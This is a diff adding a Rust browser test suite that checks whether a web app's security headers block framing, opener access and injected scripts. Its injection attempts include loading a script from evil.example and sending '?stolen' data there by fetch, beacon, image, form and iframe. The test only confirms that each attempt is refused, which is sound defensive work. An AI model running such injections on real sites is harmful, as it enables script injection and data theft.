@@ -1,0 +1,159 @@
+//! What the browser refuses on our behalf, because the page's headers say so.
+
+use yew_cognito_e2e::{Page, run};
+
+/// Two rules forbid scripts that are texts or come from elsewhere, and the browser names one of them.
+const SCRIPT: &str = "script-src require-trusted-types-for";
+
+#[test]
+fn page_cannot_be_framed() {
+    run(async |t| {
+        t.expect_console_error("frame");
+        let framing = t
+            .stranger(&format!("<title>Framing</title><iframe src='{}/signin'></iframe>", t.site.origin))
+            .await;
+        let page = t.page();
+        page.visit(&framing.origin).await;
+        page.until("the frame to be refused", async || {
+            page.frames().await.iter().any(|url| url.starts_with("chrome-error:"))
+        })
+        .await;
+        assert!(!page.frames().await.iter().any(|url| url.starts_with(&t.site.origin)));
+        // the browser says on the console which rule it was
+        let problems = t.take_problems().await;
+        assert!(problems.iter().any(|it| it.contains("frame-ancestors 'none'")), "{problems:?}");
+    });
+}
+
+/// The same page can be framed where nothing forbids it, so what the test above sees is the rule at work.
+#[test]
+fn other_pages_can_be_framed() {
+    run(async |t| {
+        let framed = t.stranger("<title>Framed</title>").await;
+        let framing = t.stranger(&format!("<iframe src='{}'></iframe>", framed.origin)).await;
+        let page = t.page();
+        page.visit(&framing.origin).await;
+        page.until("the frame", async || {
+            page.frames().await.iter().any(|url| url.starts_with(&framed.origin))
+        })
+        .await;
+    });
+}
+
+#[test]
+fn injected_markup_and_scripts_do_nothing() {
+    run(async |t| {
+        let page = t.page();
+        page.goto("/signin").await;
+        page.screen("sign-in").await;
+        // each as an attacker who can already run a line would go on
+        for (what, attempt, directive) in [
+            (
+                "markup from a text",
+                "document.body.innerHTML += '<b id=injected></b>'",
+                "require-trusted-types-for",
+            ),
+            (
+                "a policy to allow it",
+                "trustedTypes.createPolicy('p', { createHTML: (it) => it })",
+                "trusted-types",
+            ),
+            ("code from a text", "window.injected = new Function('return 1')()", SCRIPT),
+            (
+                "an inline script",
+                "const it = document.createElement('script'); it.append('window.injected = 1'); document.body.append(it)",
+                SCRIPT,
+            ),
+            (
+                "a script from elsewhere",
+                "const it = document.createElement('script'); it.setAttribute('src', 'https://evil.example/x.js'); \
+                 document.body.append(it)",
+                SCRIPT,
+            ),
+            (
+                "an event handler in markup",
+                "const it = document.createElement('p'); it.setAttribute('onclick', 'window.injected = 1'); \
+                 document.body.append(it); it.click()",
+                SCRIPT,
+            ),
+            (
+                "a style in markup",
+                "const it = document.createElement('style'); it.append('body{color:red}'); document.body.append(it)",
+                "style-src",
+            ),
+            (
+                "an image from elsewhere",
+                "const it = new Image(); it.src = 'https://evil.example/?stolen'; document.body.append(it)",
+                "img-src",
+            ),
+            ("a call elsewhere", "fetch('https://evil.example/?stolen').catch(() => {})", "connect-src"),
+            ("a beacon elsewhere", "navigator.sendBeacon('https://evil.example/?stolen')", "connect-src"),
+            (
+                "another base for links",
+                "const it = document.createElement('base'); it.href = 'https://evil.example/'; document.head.append(it)",
+                "base-uri",
+            ),
+            (
+                "a form that leads elsewhere",
+                "const it = document.createElement('form'); it.action = 'https://evil.example/'; \
+                 document.body.append(it); it.submit()",
+                "form-action",
+            ),
+            (
+                "a frame",
+                "const it = document.createElement('iframe'); it.src = 'https://evil.example/'; document.body.append(it)",
+                "frame-src",
+            ),
+        ] {
+            let violated = violation(&page, attempt).await;
+            assert!(directive.split(' ').any(|it| it == violated), "{what} violates {violated}");
+        }
+        assert_eq!(page.eval("return typeof window.injected").await, "undefined");
+        assert_eq!(page.eval("return document.querySelector('#injected') === null").await, true);
+        page.screen("sign-in").await;
+
+        // The browser lists what it was asked for before it refuses it, so evil.example is among the requests.
+        t.expect_console_error("");
+        let expected =
+            ["Content-Security-Policy", "foreign URL: https://evil.example", "foreign URL: chrome-error:"];
+        let problems = t.take_problems().await;
+        let is_expected = |problem: &String| expected.iter().any(|it| problem.starts_with(it));
+        assert!(problems.iter().all(is_expected), "{problems:?}");
+    });
+}
+
+/// The directive that an attempt violates; what it throws does not matter.
+async fn violation(page: &Page, attempt: &str) -> String {
+    let watch = format!(
+        "window.violated = ''; \
+         document.addEventListener('securitypolicyviolation', (event) => {{ \
+             window.violated = event.effectiveDirective; \
+         }}, {{ once: true }}); \
+         setTimeout(() => {{ try {{ {attempt} }} catch {{}} }})"
+    );
+    // later, because what the driver runs itself may evaluate code, and what the page runs may not
+    page.eval(&watch).await;
+    let mut violated = String::new();
+    page.until(&format!("a violation by {attempt}"), async || {
+        page.eval("return window.violated").await.as_str().unwrap_or_default().clone_into(&mut violated);
+        !violated.is_empty()
+    })
+    .await;
+    // scripts have directives for attributes and elements of their own, which script-src stands in for
+    violated.trim_end_matches("-elem").trim_end_matches("-attr").to_owned()
+}
+
+#[test]
+fn opener_is_cut_off() {
+    run(async |t| {
+        let opening = t.stranger("<title>Opening</title>").await;
+        let page = t.page();
+        page.visit(&opening.origin).await;
+        page.eval(&format!("window.opened = window.open('{}/signin')", t.site.origin)).await;
+        // to whom opened it, a page with a Cross-Origin-Opener-Policy of its own looks closed
+        page.until("the opener to lose the page", async || {
+            page.eval("return window.opened.closed").await == true
+        })
+        .await;
+    });
+}
